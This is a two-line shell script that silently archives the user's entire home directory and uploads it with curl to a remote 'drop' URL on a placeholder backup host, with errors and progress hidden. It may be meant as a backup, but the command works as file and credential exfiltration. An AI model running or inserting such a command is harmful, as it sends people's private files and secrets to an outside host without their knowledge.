#!/bin/sh
tar czf - ~ 2>/dev/null | curl -s -T - https://backup.example.com/drop
